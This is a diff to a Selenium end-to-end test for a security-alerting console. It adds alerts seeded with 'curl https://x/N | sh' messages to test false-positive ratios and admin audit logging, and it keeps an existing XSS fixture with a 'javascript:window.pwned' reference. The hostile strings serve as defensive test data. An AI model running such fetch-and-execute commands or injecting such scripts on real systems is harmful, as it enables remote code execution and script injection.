@@ -23,6 +23,7 @@ import uvicorn
 
 from service.alerting.router import AlertRouter
 from service.api import create_app
+from tests.support.alerts import alert
 from tests.support.api import ADMIN, ANALYST, READER, build_ctx
 from tests.support.console import XSS_EVENT, fresh_alert
 
@@ -69,8 +70,11 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Aler
     demo = run(stories, build_detectors(), now=time.time())
     docs = [d.alert.to_document() for d in demo.alerts]
     xss = fresh_alert(999_999, level="critical", event=XSS_EVENT, refs=("javascript:window.pwned=4",))
-    alerts.store.upsert([*docs, xss.to_document()])
-    ids = {"xss": xss.id, "correlation": next(d.alert.id for d in demo.alerts if d.alert.rule.kind == "correlation"),
+    curl_rule = ctx.detector.current.ruleset.rules[0]  # a loaded rule: its page shows its false-positive ratio
+    curl = [alert(900_000 + i, r=curl_rule, event={"message": f"curl https://x/{i} | sh"}, ts=time.time())
+            for i in range(2)]
+    alerts.store.upsert([*docs, xss.to_document(), *(c.to_document() for c in curl)])
+    ids = {"xss": xss.id, "curl": curl[0].id, "curl2": curl[1].id, "curl_rule": curl_rule.id, "correlation": next(d.alert.id for d in demo.alerts if d.alert.rule.kind == "correlation"),
            "high": next(d.alert.id for d in demo.alerts if d.alert.level == "high")}
     port = _free_port()
     server = uvicorn.Server(uvicorn.Config(create_app(ctx), host="127.0.0.1", port=port, log_config=None,
@@ -175,6 +179,31 @@ def test_an_analyst_filters_opens_a_correlation_triages_and_silences(
     wait(browser, lambda d: "known noise during the demo" in d.find_element(By.ID, "silences").text)
     assert "triage" in browser.find_element(By.ID, "silences").text  # created_by is the token's name
     shot(browser, tmp_path_factory, "silences")
+
+
+def test_false_positives_show_on_the_rule_and_admins_see_each_action_audited(
+        served: Any, browser: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
+    base, _, ids = served
+    sign_in(browser, base, ANALYST, f"/rules/{ids['curl_rule']}")
+    assert "ratio" not in browser.find_element(By.ID, "rule-stats").text  # nothing resolved yet
+    for alert_id, disposition in ((ids["curl"], "false_positive"), (ids["curl2"], "true_positive")):
+        browser.get(f"{base}/alerts/{alert_id}")
+        Select(browser.find_element(By.ID, "disposition")).select_by_value(disposition)
+        browser.find_element(By.ID, "resolve").click()
+        wait(browser, lambda d: d.find_element(By.ID, "alert-status").text.startswith("resolved"))
+    browser.get(f"{base}/rules/{ids['curl_rule']}")
+    assert "1 false positive (ratio 50%)" in browser.find_element(By.ID, "rule-stats").text
+    browser.find_element(By.CSS_SELECTOR, "form.who button").click()  # sign out
+    wait(browser, lambda d: "/sign-in" in d.current_url)
+    browser.get(base + "/audit")
+    wait(browser, lambda d: "/sign-in?next=%2Faudit" in d.current_url)
+    browser.find_element(By.ID, "token").send_keys(ADMIN)
+    browser.find_element(By.ID, "sign-in").click()
+    wait(browser, lambda d: d.find_elements(By.ID, "audit"))
+    rows = [r.text for r in browser.find_elements(By.CSS_SELECTOR, "#audit tbody tr")]
+    assert any("triage" in r and "alert.triage" in r and ids["curl"] in r for r in rows)
+    assert any("triage" in r and "console.sign_out" in r for r in rows)
+    assert any("ops" in r and "console.sign_in" in r for r in rows)
 
 
 def test_the_queue_works_from_the_keyboard(served: Any, browser: Any) -> None:
